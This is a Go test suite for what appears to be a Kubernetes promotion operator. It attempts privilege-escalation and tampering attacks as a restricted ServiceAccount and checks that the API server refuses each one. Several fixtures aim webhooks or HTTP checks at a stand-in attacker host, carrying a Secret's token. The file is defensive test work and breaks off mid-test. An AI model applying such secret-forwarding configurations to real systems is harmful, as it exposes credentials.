package policy_test

import (
	"context"
	"encoding/json"
	"fmt"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	autov1alpha1 "github.com/stackyard/stackyard/api/auto/v1alpha1"
	notificationv1alpha1 "github.com/stackyard/stackyard/api/notification/v1alpha1"
	promotionv1alpha1 "github.com/stackyard/stackyard/api/promotion/v1alpha1"
	"github.com/stackyard/stackyard/api/pulumi/shared"
	pulumiv1 "github.com/stackyard/stackyard/api/pulumi/v1"
	"github.com/stackyard/stackyard/internal/change"
)

// The attack suite: one test per row of the threat model in
// docs/security.md that the API server decides. Each attacker is a
// ServiceAccount of its own, authenticated by a bearer token from the
// TokenRequest API and holding only the Role named for it: no
// impersonation, no system:masters. Each attack must be refused with a
// message naming the field and the missing verb, and the object read back
// must be unchanged.

// attacker returns a client authenticated as a new ServiceAccount name of
// ns, by bearer token only, holding rules in ns.
func attacker(t *testing.T, ns, name string, rules ...rbacv1.PolicyRule) client.Client {
	t.Helper()
	c, err := env.TokenClient(context.Background(), ns, name, rules...)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func stackRule(resource string, verbs ...string) rbacv1.PolicyRule {
	return rbacv1.PolicyRule{APIGroups: []string{pulumiv1.GroupVersion.Group}, Resources: []string{resource}, Verbs: verbs}
}

// govern is the right to govern the named stages (all when none named).
func govern(stages ...string) rbacv1.PolicyRule {
	r := rule("stages", "govern")
	r.ResourceNames = stages
	return r
}

// fixture is a namespace with a pipeline of two stages, dev (ungated)
// and prod (an approval, fed by dev), each deploying a Stack that
// consents to it; made by the administrator, as a platform team would.
type fixture struct {
	ns        string
	dev, prod *promotionv1alpha1.Stage
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	f := &fixture{ns: env.NewNamespace(t, "attack-")}
	for _, name := range []string{"dev", "prod"} {
		stack := &pulumiv1.Stack{
			ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: name, Annotations: map[string]string{
				promotionv1alpha1.AuthorizedStageAnnotation: name,
			}},
			Spec: shared.StackSpec{Stack: name, GitSource: &shared.GitSource{ProjectRepo: "https://git.example.invalid/web.git", Commit: "0123456789abcdef0123456789abcdef01234567"}},
		}
		mustCreate(t, stack)
	}
	f.dev = &promotionv1alpha1.Stage{
		ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "dev"},
		Spec: promotionv1alpha1.StageSpec{Pipeline: "web", Stacks: []promotionv1alpha1.StackBinding{{Name: "dev"}},
			Sources: promotionv1alpha1.ReleaseSources{Direct: true}, AutoPromotionOptions: &promotionv1alpha1.AutoPromotionOptions{Enabled: true}},
	}
	f.prod = &promotionv1alpha1.Stage{
		ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "prod"},
		Spec: promotionv1alpha1.StageSpec{Pipeline: "web", Stacks: []promotionv1alpha1.StackBinding{{Name: "prod"}},
			Sources:  promotionv1alpha1.ReleaseSources{Stages: []string{"dev"}},
			Approval: &promotionv1alpha1.ApprovalPolicy{Required: 1}},
	}
	mustCreate(t, f.dev)
	mustCreate(t, f.prod)
	return f
}

func mustCreate(t *testing.T, obj client.Object) {
	t.Helper()
	if err := env.Client.Create(context.Background(), obj); err != nil {
		t.Fatalf("creating %T %s: %v", obj, obj.GetName(), err)
	}
}

// unchanged reads obj back as the administrator and requires its spec,
// metadata.annotations and status to be as before the attack.
func unchanged(t *testing.T, obj client.Object, before client.Object) {
	t.Helper()
	g := NewWithT(t)
	g.Expect(env.Client.Get(context.Background(), client.ObjectKeyFromObject(before), obj)).To(Succeed())
	g.Expect(obj.GetResourceVersion()).To(Equal(before.GetResourceVersion()), "%T %s was changed", obj, obj.GetName())
}

// mergePatch is a JSON merge patch of v.
// planFields is how the Stack governance policy names the annotations of
// a governed Stack that only its promotions and governors change.
const planFields = "metadata (annotations promotion.stackyard.dev/plan, plan-commit, plan-inputs, preview-stages, pulumi.com/reconciliation-request; ownerReferences)"

// sourceFieldsMsg names, in the policy's refusal, what a governed Stack
// deploys.
const sourceFieldsMsg = "spec (commit, projectRepo, branch, programRef, fluxSource)"

func mergePatch(t *testing.T, v any) client.Patch {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return client.RawPatch(types.MergePatchType, data)
}

// TestAttackStageEditor: a user allowed to update stages, without govern,
// takes none of the paths to prod: binding prod's Stack to the
// ungated dev stage, feeding prod directly, making its upstream a
// preview-only stage.
func TestAttackStageEditor(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	mallory := attacker(t, f.ns, "mallory", rule("stages", "get", "list", "update", "patch"))
	attacks := map[string]struct {
		stage *promotionv1alpha1.Stage
		patch map[string]any
	}{
		"spec.stacks":      {f.dev, map[string]any{"spec": map[string]any{"stacks": []any{map[string]any{"name": "dev"}, map[string]any{"name": "prod"}}}}},
		"spec.sources":     {f.prod, map[string]any{"spec": map[string]any{"sources": map[string]any{"direct": true, "stages": nil}}}},
		"spec.previewOnly": {f.dev, map[string]any{"spec": map[string]any{"previewOnly": true}}},
		"spec.approval":    {f.prod, map[string]any{"spec": map[string]any{"approval": nil}}},
	}
	for field, a := range attacks {
		before := a.stage.DeepCopy()
		attack := func() error { return mallory.Patch(ctx, a.stage.DeepCopy(), mergePatch(t, a.patch)) }
		// The policies load a moment after they are made.
		eventually(t, attack).Should(MatchError(ContainSubstring(field + `: deciding what stage ` + a.stage.Name)))
		NewWithT(t).Expect(attack()).To(MatchError(ContainSubstring(`needs the verb "govern" on stages.promotion.stackyard.dev, which system:serviceaccount:` + f.ns + `:mallory is not allowed`)))
		unchanged(t, &promotionv1alpha1.Stage{}, before)
	}
}

// TestAttackStageRecreate: create and delete on stages do not drop a gate:
// deleting prod, or creating an ungated stage, needs govern.
func TestAttackStageRecreate(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	mallory := attacker(t, f.ns, "mallory", rule("stages", "get", "create", "delete"))
	g := NewWithT(t)
	eventually(t, func() error { return mallory.Delete(ctx, f.prod.DeepCopy()) }).
		Should(MatchError(ContainSubstring(`deleting stage prod: deciding what stage prod deploys, and through which gates, needs the verb "govern"`)))
	unchanged(t, &promotionv1alpha1.Stage{}, f.prod)
	ungated := &promotionv1alpha1.Stage{
		ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "prod-fast"},
		Spec: promotionv1alpha1.StageSpec{Pipeline: "web", Stacks: []promotionv1alpha1.StackBinding{{Name: "prod"}},
			Sources: promotionv1alpha1.ReleaseSources{Direct: true}},
	}
	g.Expect(mallory.Create(ctx, ungated)).To(MatchError(ContainSubstring(`creating stage prod-fast: deciding what stage prod-fast deploys`)))
}

// TestAttackStackConsent: a user allowed to edit Stacks, without govern,
// can neither move a Stack's consent to another stage, nor take it away,
// nor give it; nor change what a governed Stack deploys, its plan
// annotations, or delete it. An ungoverned Stack stays theirs to edit.
func TestAttackStackConsent(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	mallory := attacker(t, f.ns, "mallory", stackRule("stacks", "get", "list", "create", "update", "patch", "delete"))
	devGovernor := attacker(t, f.ns, "dev-governor", stackRule("stacks", "get", "update", "patch"), govern("dev"))
	prod := &pulumiv1.Stack{}
	g := NewWithT(t)
	g.Expect(env.Client.Get(ctx, client.ObjectKey{Namespace: f.ns, Name: "prod"}, prod)).To(Succeed())
	key := promotionv1alpha1.AuthorizedStageAnnotation
	annotate := func(value any) client.Patch {
		return mergePatch(t, map[string]any{"metadata": map[string]any{"annotations": map[string]any{key: value}}})
	}
	eventually(t, func() error { return mallory.Patch(ctx, prod.DeepCopy(), annotate("dev")) }).
		Should(MatchError(ContainSubstring(`metadata.annotations[` + key + `]: binding Stack prod to a stage, or unbinding it, needs the verb "govern"`)))
	g.Expect(mallory.Patch(ctx, prod.DeepCopy(), annotate(nil))).To(MatchError(ContainSubstring("for stage prod")), "unbinding needs govern on the old stage")
	g.Expect(devGovernor.Patch(ctx, prod.DeepCopy(), annotate("dev"))).To(MatchError(ContainSubstring("for stage prod and stage dev")),
		"governing dev is not enough to take prod's Stack")

	for _, a := range []struct {
		field string
		patch map[string]any
	}{
		{sourceFieldsMsg, map[string]any{"spec": map[string]any{"commit": "fedcba9876543210fedcba9876543210fedcba98"}}},
		{sourceFieldsMsg, map[string]any{"spec": map[string]any{"projectRepo": "https://git.example/elsewhere.git"}}},
		{planFields, map[string]any{"metadata": map[string]any{"annotations": map[string]any{
			"promotion.stackyard.dev/plan": nil, "promotion.stackyard.dev/plan-commit": "x"}}}},
		// The digest of the inputs the pin holds the up to.
		{planFields, map[string]any{"metadata": map[string]any{"annotations": map[string]any{
			"promotion.stackyard.dev/plan-inputs": "sha256:0"}}}},
		// Consent to preview: a preview runs prod's program with its
		// credentials.
		{planFields, map[string]any{"metadata": map[string]any{"annotations": map[string]any{
			promotionv1alpha1.PreviewStagesAnnotation: "dev"}}}},
		// A reconcile request starts an up outside any promotion.
		{planFields, map[string]any{"metadata": map[string]any{"annotations": map[string]any{
			"pulumi.com/reconciliation-request": "again"}}}},
		// An owner that is gone would have the Stack collected.
		{planFields, map[string]any{"metadata": map[string]any{"ownerReferences": []any{map[string]any{
			"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "0b5e7e9a-0000-4000-8000-000000000009"}}}}},
	} {
		g.Expect(mallory.Patch(ctx, prod.DeepCopy(), mergePatch(t, a.patch))).To(MatchError(ContainSubstring(
			a.field+`: Stack prod is governed by stage prod and changes only through its promotions`)), "%v", a.patch)
	}
	// The rest of the spec is anyone's to change who may update the
	// Stack: the operator holds the change for a promotion.
	g.Expect(mallory.Patch(ctx, prod.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"config": map[string]any{"web:replicas": 0}}}),
		client.DryRunAll)).To(Succeed(), "a config change is held, not refused")
	g.Expect(mallory.Delete(ctx, prod.DeepCopy())).To(MatchError(ContainSubstring("deleting Stack prod: Stack prod is governed by stage prod")))
	unchanged(t, &pulumiv1.Stack{}, prod)

	// Giving consent to a stage needs govern on it too, on a new Stack.
	const sha = "0123456789abcdef0123456789abcdef01234567"
	pinned := func(name string) *pulumiv1.Stack {
		return &pulumiv1.Stack{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: name},
			Spec: shared.StackSpec{Stack: name, GitSource: &shared.GitSource{ProjectRepo: "https://git.example.invalid/web.git", Commit: sha}}}
	}
	sneaky := pinned("sneaky")
	sneaky.Annotations = map[string]string{key: "prod"}
	g.Expect(mallory.Create(ctx, sneaky)).To(MatchError(ContainSubstring("binding Stack sneaky to a stage")))

	// An ungoverned Stack is its editors' own, but it carries no consent
	// to preview that a governor binding it could take on unawares.
	free := pinned("free")
	free.Annotations = map[string]string{promotionv1alpha1.PreviewStagesAnnotation: "dev"}
	g.Expect(mallory.Create(ctx, free.DeepCopy())).To(MatchError(ContainSubstring(
		"metadata.annotations[" + promotionv1alpha1.PreviewStagesAnnotation + "]: Stack free names no stage")))
	free.Annotations = nil
	g.Expect(mallory.Create(ctx, free)).To(Succeed())
	g.Expect(mallory.Patch(ctx, free, mergePatch(t, map[string]any{"spec": map[string]any{"commit": nil, "branch": "next"}}))).To(Succeed())

	// A Stack that follows a branch cannot be governed, not even by a
	// governor: whoever pushes to the branch would deploy.
	g.Expect(devGovernor.Patch(ctx, free.DeepCopy(), annotate("dev"))).To(MatchError(ContainSubstring(
		"spec: Stack free names stage dev in promotion.stackyard.dev/authorized-stage, so it must pin spec.commit of spec.projectRepo")))
	g.Expect(mallory.Delete(ctx, free)).To(Succeed())

	// The governor of dev binds a pinned Stack to dev, and may then edit
	// it; nobody else may, and nobody may make it follow a branch.
	free = pinned("free")
	g.Expect(env.Client.Create(ctx, free.DeepCopy())).To(Succeed())
	g.Expect(devGovernor.Patch(ctx, free.DeepCopy(), annotate("dev"))).To(Succeed())
	other := map[string]any{"spec": map[string]any{"commit": "fedcba9876543210fedcba9876543210fedcba98"}}
	g.Expect(mallory.Patch(ctx, free.DeepCopy(), mergePatch(t, other))).To(MatchError(ContainSubstring("Stack free is governed by stage dev")))
	g.Expect(devGovernor.Patch(ctx, free.DeepCopy(), mergePatch(t, other))).To(Succeed())
	// Its governor lets a stage preview it; unbinding it takes that back
	// in the same write.
	previews := func(value any) client.Patch {
		return mergePatch(t, map[string]any{"metadata": map[string]any{"annotations": map[string]any{promotionv1alpha1.PreviewStagesAnnotation: value}}})
	}
	g.Expect(mallory.Patch(ctx, free.DeepCopy(), previews("qa"))).To(MatchError(ContainSubstring("Stack free is governed by stage dev")))
	g.Expect(devGovernor.Patch(ctx, free.DeepCopy(), previews("qa"))).To(Succeed())
	g.Expect(devGovernor.Patch(ctx, free.DeepCopy(), annotate(nil))).To(MatchError(ContainSubstring("names no stage")))
	g.Expect(devGovernor.Patch(ctx, free.DeepCopy(), mergePatch(t, map[string]any{"metadata": map[string]any{"annotations": map[string]any{
		key: nil, promotionv1alpha1.PreviewStagesAnnotation: nil}}}))).To(Succeed())
	g.Expect(devGovernor.Patch(ctx, free.DeepCopy(), annotate("dev"))).To(Succeed())
	g.Expect(env.Client.Patch(ctx, free.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"commit": nil, "branch": "main"}}))).
		To(MatchError(ContainSubstring("must pin spec.commit")), "not even an administrator")

	// A governed Stack never expires: a TTL would destroy what its stage
	// deploys, so not even its governor may set one, nor bind a Stack
	// that has one.
	ttl := mergePatch(t, map[string]any{"spec": map[string]any{"ttl": "1h"}})
	g.Expect(mallory.Patch(ctx, free.DeepCopy(), ttl)).To(MatchError(ContainSubstring(
		"spec.ttl: Stack free names stage dev in promotion.stackyard.dev/authorized-stage, so it cannot expire")))
	g.Expect(devGovernor.Patch(ctx, free.DeepCopy(), ttl)).To(MatchError(ContainSubstring("spec.ttl: Stack free names stage dev")))
	expiring := pinned("expiring")
	expiring.Spec.TTL = &metav1.Duration{Duration: time.Hour}
	g.Expect(mallory.Create(ctx, expiring.DeepCopy())).To(Succeed(), "an ungoverned Stack may expire")
	g.Expect(devGovernor.Patch(ctx, expiring.DeepCopy(), annotate("dev"))).To(MatchError(ContainSubstring("spec.ttl: Stack expiring names stage dev")))
	// The operator deletes an expired Stack: a TTL is set only by whoever
	// may delete it.
	updater := attacker(t, f.ns, "updater", stackRule("stacks", "get", "create", "update", "patch"))
	g.Expect(updater.Patch(ctx, expiring.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"ttl": "1s"}}))).To(MatchError(ContainSubstring(
		`spec.ttl: once it runs out the operator deletes Stack expiring and destroys its resources, which needs the verb "delete" on stacks.pulumi.com`)))
	g.Expect(updater.Patch(ctx, expiring.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"refresh": true}}))).To(Succeed(),
		"an edit that leaves the TTL alone needs no more")
	short := pinned("short")
	short.Spec.TTL = &metav1.Duration{Duration: time.Hour}
	g.Expect(updater.Create(ctx, short)).To(MatchError(ContainSubstring(`spec.ttl: once it runs out the operator deletes Stack short`)))
}

// TestAttackRecords: Releases, StackPromotions, and the status of
// Promotions, Stages and Stacks, are accepted only from the operator's
// verb "record"; a finished
// Promotion never changes, even for the operator, even by removing its
// whole status; Approvals and Promotions are not deleted but by retention
// or a governor; retention is shortened only with govern on the pipeline.
func TestAttackRecords(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := NewWithT(t)
	mallory := attacker(t, f.ns, "mallory",
		rule("releases", "get", "create", "update", "patch", "delete"), rule("releases/status", "update", "patch"),
		rule("promotions", "get", "create", "update", "patch", "delete"), rule("promotions/status", "update", "patch"),
		rule("stages/status", "update", "patch"), rule("approvals", "get", "update", "delete"),
		rule("pipelines", "get", "create", "update", "patch"), rule("stackpromotions", "get", "create", "update", "patch", "delete"),
		stackRule("stacks/status", "update", "patch"))
	operator := attacker(t, f.ns, "operator", rule("releases", "get", "create", "update", "patch", "delete", "record"),
		rule("releases/status", "update", "patch"), rule("promotions", "get", "record"), rule("promotions/status", "update", "patch"),
		rule("stackpromotions", "get", "create", "update", "delete", "record"))
	auditor := attacker(t, f.ns, "auditor", rule("releases", "delete"), rule("pipelines", "govern"))

	release := &promotionv1alpha1.Release{
		ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "web-0123456"},
		Spec:       promotionv1alpha1.ReleaseSpec{Pipeline: "web", Commit: promotionv1alpha1.ReleaseCommit{SHA: "0123456789abcdef0123456789abcdef01234567", Branch: "main"}},
	}
	eventually(t, func() error { return mallory.Create(ctx, release.DeepCopy()) }).
		Should(MatchError(ContainSubstring(`releases: a record of change management, written only by the stackyard operator (the verb "record" on releases.promotion.stackyard.dev`)))
	g.Expect(operator.Create(ctx, release)).To(Succeed())
	now := metav1.NewTime(time.Now())
	g.Expect(mallory.Status().Patch(ctx, release.DeepCopy(), mergePatch(t, map[string]any{"status": map[string]any{"verifiedIn": map[string]any{"prod": map[string]any{"since": now}}}}))).
		To(MatchError(ContainSubstring("releases/status: a record of change management")))
	g.Expect(mallory.Delete(ctx, release.DeepCopy())).To(MatchError(ContainSubstring("releases: a record of change management")))
	unchanged(t, &promotionv1alpha1.Release{}, release)

	// The attack: remove the whole status of a finished promotion.
	p := &promotionv1alpha1.Promotion{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "prod-1"},
		Spec: promotionv1alpha1.PromotionSpec{Stage: "prod", Release: release.Name, RequestedBy: "system:masters-admin"}}
	p.Spec.RequestedBy = whoAmI(t, env.Client)
	mustCreate(t, p)
	p.Status = promotionv1alpha1.PromotionStatus{Phase: promotionv1alpha1.PromotionSucceeded, Commit: release.Spec.Commit.SHA, StartTime: &now, EndTime: &now}
	g.Expect(env.Client.Status().Update(ctx, p)).To(Succeed())
	removeStatus := client.RawPatch(types.JSONPatchType, []byte(`[{"op":"remove","path":"/status"}]`))
	g.Expect(mallory.Status().Patch(ctx, p.DeepCopy(), removeStatus)).To(MatchError(ContainSubstring("promotions/status: a record of change management")))
	g.Expect(operator.Status().Patch(ctx, p.DeepCopy(), removeStatus)).To(MatchError(ContainSubstring("status: Promotion prod-1 has finished")),
		"not even the operator may rewrite a finished promotion")
	g.Expect(operator.Status().Patch(ctx, p.DeepCopy(), mergePatch(t, map[string]any{"status": map[string]any{"phase": "Running"}}))).
		To(MatchError(ContainSubstring("a finished Promotion is a record")))
	g.Expect(mallory.Delete(ctx, p.DeepCopy())).To(MatchError(ContainSubstring("promotions: a record of change management")))
	unchanged(t, &promotionv1alpha1.Promotion{}, p)

	// A promotion's record of a Stack, which the choke point reads: made,
	// changed and deleted by the operator alone.
	rec := change.NewStackPromotion(p, "prod")
	rec.Preview = &promotionv1alpha1.StackPreview{Name: "prod", Plan: "prod-1-prod.plan"}
	g.Expect(mallory.Create(ctx, rec.DeepCopy())).To(MatchError(ContainSubstring(`stackpromotions: a record of change management, written only by the stackyard operator (the verb "record" on stackpromotions.promotion.stackyard.dev`)))
	g.Expect(operator.Create(ctx, rec)).To(Succeed())
	g.Expect(mallory.Patch(ctx, rec.DeepCopy(), mergePatch(t, map[string]any{"preview": map[string]any{"plan": "mallorys.plan"}}))).
		To(MatchError(ContainSubstring("stackpromotions: a record of change management")))
	g.Expect(mallory.Delete(ctx, rec.DeepCopy())).To(MatchError(ContainSubstring("stackpromotions: a record of change management")))
	unchanged(t, &promotionv1alpha1.StackPromotion{}, rec)

	// Stage and Stack status: what runs where, and what was deployed.
	g.Expect(mallory.Status().Patch(ctx, f.prod.DeepCopy(), mergePatch(t, map[string]any{"status": map[string]any{"currentRelease": map[string]any{
		"name": release.Name, "sha": release.Spec.Commit.SHA, "since": now}}}))).To(MatchError(ContainSubstring("stages/status: a record")))
	stack := &pulumiv1.Stack{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "prod"}}
	g.Expect(mallory.Status().Patch(ctx, stack, mergePatch(t, map[string]any{"status": map[string]any{"lastUpdate": map[string]any{
		"state": "succeeded", "lastSuccessfulCommit": "0123456789abcdef0123456789abcdef01234567"}}}))).To(MatchError(ContainSubstring("stacks/status: a record")))

	// Approvals are deleted by nobody but the operator.
	approval := &promotionv1alpha1.Approval{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "no"},
		Spec: promotionv1alpha1.ApprovalSpec{Promotion: "prod-1", Stage: "prod", PlanDigest: "sha256:0123", Decision: promotionv1alpha1.Reject,
			Comment: "drops the database", User: whoAmI(t, env.Client), Groups: groupsOf(t, env.Client)}}
	mustCreate(t, approval)
	g.Expect(mallory.Delete(ctx, approval.DeepCopy())).To(MatchError(ContainSubstring("approvals: a record of change management")))

	// Retention: shortening needs govern on the pipeline; so does deleting
	// a release by hand.
	pipeline := &promotionv1alpha1.Pipeline{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "web"},
		Spec: promotionv1alpha1.PipelineSpec{Git: promotionv1alpha1.GitSubscription{RepoURL: "https://git.example.invalid/web.git", Branch: "main"}}}
	g.Expect(mallory.Create(ctx, pipeline)).To(Succeed(), "a pipeline with the default retention needs no govern")
	g.Expect(mallory.Patch(ctx, pipeline.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"promotionRetention": 1}}))).
		To(MatchError(ContainSubstring(`spec.promotionRetention: setting or shortening what pipeline web keeps needs the verb "govern" on pipelines`)))
	g.Expect(mallory.Patch(ctx, pipeline.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"releaseRetention": 500}}))).To(Succeed(),
		"keeping more needs no govern")
	g.Expect(auditor.Delete(ctx, release.DeepCopy())).To(Succeed(), "a governor of the pipeline may delete its release")
}

// TestAttackChecks: a verification check makes the operator act with its
// own rights, so a governor must hold the rights the check uses: create
// on jobs for a Job check, get on the Secret a header reads.
func TestAttackChecks(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := NewWithT(t)
	governor := attacker(t, f.ns, "governor", rule("stages", "get", "update", "patch", "govern"))
	mustCreate(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "cloud-admin"}, StringData: map[string]string{"token": "s3cr3t"}})
	job := promotionv1alpha1.VerificationCheck{Name: "smoke", Job: &promotionv1alpha1.JobCheck{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{
		Spec: corev1.PodSpec{ServiceAccountName: "cluster-admin-sa", RestartPolicy: corev1.RestartPolicyNever,
			Containers: []corev1.Container{{Name: "smoke", Image: "busybox"}}}}}}}
	header := promotionv1alpha1.VerificationCheck{Name: "probe", HTTP: &promotionv1alpha1.HTTPCheck{URL: "https://attacker.example.invalid/",
		Headers: []promotionv1alpha1.HTTPHeader{{Key: "Authorization", ValueFrom: &promotionv1alpha1.HeaderValueSource{
			SecretKeyRef: corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "cloud-admin"}, Key: "token"}}}}}}
	withCheck := func(c promotionv1alpha1.VerificationCheck) client.Patch {
		return mergePatch(t, map[string]any{"spec": map[string]any{"verification": map[string]any{"checks": []any{c}}}})
	}
	eventually(t, func() error { return governor.Patch(ctx, f.prod.DeepCopy(), withCheck(job)) }).
		Should(MatchError(ContainSubstring(`spec.verification.checks: a Job check runs a Job as the operator does, which needs the verb "create" on jobs.batch`)))
	g.Expect(governor.Patch(ctx, f.prod.DeepCopy(), withCheck(header))).
		To(MatchError(ContainSubstring(`spec.verification.checks: a header read from a Secret sends the value of that Secret, which needs the verb "get" on the Secret`)))
	unchanged(t, &promotionv1alpha1.Stage{}, f.prod)
}

// TestAttackSecretReferences: a user who may create Providers and
// Receivers, and may not read a Secret, cannot have the operator use it:
// a Provider would send its token to an address of the user's choosing.
// Naming a Secret the user may read stays theirs to do, and so does an
// edit that leaves the spec as it was.
func TestAttackSecretReferences(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := NewWithT(t)
	mustCreate(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "cloud-admin"}, StringData: map[string]string{"token": "s3cr3t"}})
	mustCreate(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "hook"}, StringData: map[string]string{"token": "h00k"}})
	readHook := rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{"hook"}, Verbs: []string{"get"}}
	notifications := rbacv1.PolicyRule{APIGroups: []string{notificationv1alpha1.GroupVersion.Group}, Resources: []string{"providers", "receivers"},
		Verbs: []string{"get", "create", "update", "patch"}}
	mallory := attacker(t, f.ns, "mallory", notifications, readHook)
	provider := func(name, secret string) *notificationv1alpha1.Provider {
		return &notificationv1alpha1.Provider{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: name}, Spec: notificationv1alpha1.ProviderSpec{
			Type: notificationv1alpha1.ProviderWebhook, Address: "https://attacker.example.invalid/", SecretRef: &notificationv1alpha1.SecretReference{Name: secret}}}
	}
	refusal := `spec.secretRef: the operator uses the Secret cloud-admin on behalf of this %s, which needs the verb "get" on that Secret, which system:serviceaccount:` + f.ns + `:mallory is not allowed`
	eventually(t, func() error { return mallory.Create(ctx, provider("exfiltrate", "cloud-admin")) }).
		Should(MatchError(ContainSubstring(fmt.Sprintf(refusal, "Provider"))))
	receiver := &notificationv1alpha1.Receiver{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "oracle"}, Spec: notificationv1alpha1.ReceiverSpec{
		Type: notificationv1alpha1.ReceiverGeneric, SecretRef: notificationv1alpha1.SecretReference{Name: "cloud-admin"}}}
	g.Expect(mallory.Create(ctx, receiver)).To(MatchError(ContainSubstring(fmt.Sprintf(refusal, "Receiver"))))

	// The user's own Secret, then a switch to the administrator's.
	own := provider("own", "hook")
	g.Expect(mallory.Create(ctx, own)).To(Succeed())
	g.Expect(mallory.Patch(ctx, own.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"secretRef": map[string]any{"name": "cloud-admin"}}}))).
		To(MatchError(ContainSubstring(fmt.Sprintf(refusal, "Provider"))))
	before := own.DeepCopy()
	unchanged(t, &notificationv1alpha1.Provider{}, before)
	g.Expect(mallory.Patch(ctx, own.DeepCopy(), mergePatch(t, map[string]any{"metadata": map[string]any{"labels": map[string]any{"team": "web"}}}))).To(Succeed())

	// A Provider the administrator made with their Secret: its labels stay
	// the user's to edit, its address does not.
	admins := provider("admins", "cloud-admin")
	admins.Spec.Address = "https://hooks.example.invalid/"
	mustCreate(t, admins)
	g.Expect(mallory.Patch(ctx, admins.DeepCopy(), mergePatch(t, map[string]any{"metadata": map[string]any{"labels": map[string]any{"team": "web"}}}))).To(Succeed())
	g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(admins), admins)).To(Succeed())
	g.Expect(mallory.Patch(ctx, admins.DeepCopy(), mergePatch(t, map[string]any{"spec": map[string]any{"address": "https://attacker.example.invalid/"}}))).
		To(MatchError(ContainSubstring(fmt.Sprintf(refusal, "Provider"))))
	unchanged(t, &notificationv1alpha1.Provider{}, admins)
}

func whoAmI(t *testing.T, c client.Client) string {
	t.Helper()
	review := &authenticationv1.SelfSubjectReview{}
	NewWithT(t).Expect(c.Create(context.Background(), review)).To(Succeed())
	return review.Status.UserInfo.Username
}

// TestAttackWorkspaceObjects: the StatefulSet and Service the kubernetes
// runtime makes for a Workspace, controlled by it, are the operator's
// alone to write (Kubernetes' garbage collector may end their deletion),
// and nobody takes one of someone else's for a Workspace's: an init
// container or a sidecar there would run beside the agent with the
// Stack's credentials. A user's own stay theirs.
func TestAttackWorkspaceObjects(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	g := NewWithT(t)
	mallory := attacker(t, f.ns, "mallory",
		rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"statefulsets"}, Verbs: []string{"get", "create", "update", "patch", "delete"}},
		rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"services"}, Verbs: []string{"get", "create", "update", "patch", "delete"}})
	ws := &autov1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "prod"}}
	mustCreate(t, ws)
	claim := []metav1.OwnerReference{*metav1.NewControllerRef(ws, autov1alpha1.GroupVersion.WithKind("Workspace"))}
	statefulSet := func(name string, owners []metav1.OwnerReference) *appsv1.StatefulSet {
		labels := map[string]string{"app": name}
		return &appsv1.StatefulSet{
			ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: name, OwnerReferences: owners},
			Spec: appsv1.StatefulSetSpec{
				Selector: &metav1.LabelSelector{MatchLabels: labels},
				Template: corev1.PodTemplateSpec{
					ObjectMeta: metav1.ObjectMeta{Labels: labels},
					Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "pulumi", Image: "pulumi/pulumi:latest"}}},
				},
			},
		}
	}
	service := func(name string, owners []metav1.OwnerReference) *corev1.Service {
		return &corev1.Service{
			ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: name, OwnerReferences: owners},
			Spec:       corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 50051}}, Selector: map[string]string{"app": name}},
		}
	}
	const written = `metadata.ownerReferences: %s made by a Workspace are written only by the stackyard operator (the verb "record" on stacks.pulumi.com`

	eventually(t, func() error { return mallory.Create(ctx, statefulSet("prod-workspace", claim)) }).
		Should(MatchError(ContainSubstring(fmt.Sprintf(written, "statefulsets"))))
